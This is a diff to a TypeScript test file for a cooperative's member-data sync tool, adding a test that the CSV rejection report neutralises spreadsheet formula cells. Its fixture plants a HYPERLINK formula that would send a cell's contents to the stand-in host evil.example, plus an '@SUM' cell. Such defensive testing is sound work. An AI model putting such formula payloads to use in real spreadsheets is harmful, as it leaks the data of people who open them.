@@ -1,4 +1,5 @@
-import { readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { loadConfig } from './config';
 import { planSync } from './run/plan';
@@ -27,19 +28,68 @@ describe('reading a coop’s files', () => {
 
   it('--dry-run checks and plans without a server: nothing is sent, the report is written', async () => {
     const stdout = new Captured();
-    const { request, run } = runAgent('members', join(SAMPLES, 'members.csv'), { dryRun: true, stdout }, config);
+    const { request, run } = runAgent(
+      'members',
+      join(SAMPLES, 'members.csv'),
+      { dryRun: true, stdout },
+      config,
+    );
     const summary = await run();
-    expect(summary).toMatchObject({ dryRun: true, complete: false, items: 8, batches: 1, rejectedRows: { local: 4, server: 0 } });
+    expect(summary).toMatchObject({
+      dryRun: true,
+      complete: false,
+      items: 8,
+      batches: 1,
+      rejectedRows: { local: 4, server: 0 },
+    });
     expect(exitCodeOf(summary)).toBe(2);
     expect(stdout.text).toContain('"memberNumber": "A-0001"');
     const report = readFileSync(request.reportPath, 'utf8').split('\r\n');
     expect(report.slice(1, -1).map((line) => line.split(',')[0])).toEqual(['10', '11', '12', '13']);
   });
 
+  it('the report keeps a cell that a spreadsheet would run as a formula as text, and reads back as it was', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'kopfed-sync-'));
+    const file = join(dir, 'members.csv');
+    const sample = readFileSync(join(SAMPLES, 'members.csv'), 'utf8').split('\n');
+    const hostile = sample[1]!
+      .replace('Siti Rahayu', '"=HYPERLINK(""http://evil.example/?""&B2,""lihat"")"')
+      .replace('Jl. Pandanaran 12 RT 02/RW 05', '@SUM(A1:A9)')
+      .replace('12/03/1985', '12/13/1985');
+    writeFileSync(file, `${sample[0]}\n${hostile}\n`);
+    const { request, run } = runAgent('members', file, { dryRun: true }, config);
+    expect(await run()).toMatchObject({ rejectedRows: { local: 1, server: 0 } });
+    const report = readFileSync(request.reportPath, 'utf8');
+    expect(report).toContain(`,"'=HYPERLINK(""http://evil.example/?""&B2,""lihat"")",`);
+    expect(report).toContain(`,'@SUM(A1:A9),`);
+    expect(report).not.toMatch(/,"?[=@]/);
+
+    // Fixed in the report and synced from it, the row says what the file said.
+    writeFileSync(request.reportPath, report.replace(',12/13/1985,', ',12/03/1985,'));
+    const again = planSync('members', await readTable(request.reportPath), {
+      coopId: 'ksp-sejahtera',
+      today: '2026-11-28',
+      config: config.members,
+      batchSize: 1_000,
+    });
+    expect(again.rejections).toEqual([]);
+    expect(again.batches[0]![0]!.item).toMatchObject({
+      person: {
+        name: '=HYPERLINK("http://evil.example/?"&B2,"lihat")',
+        address: { line: '@SUM(A1:A9)' },
+      },
+    });
+  });
+
   it('a file without a required column is refused by name before anything is planned', async () => {
     const table = await readTable(join(SAMPLES, 'loans.csv'));
     expect(() =>
-      planSync('members', table, { coopId: 'ksp-sejahtera', today: '2026-11-28', config: config.members, batchSize: 1_000 }),
+      planSync('members', table, {
+        coopId: 'ksp-sejahtera',
+        today: '2026-11-28',
+        config: config.members,
+        batchSize: 1_000,
+      }),
     ).toThrow(/missing columns: .*Nama/);
   });
 });
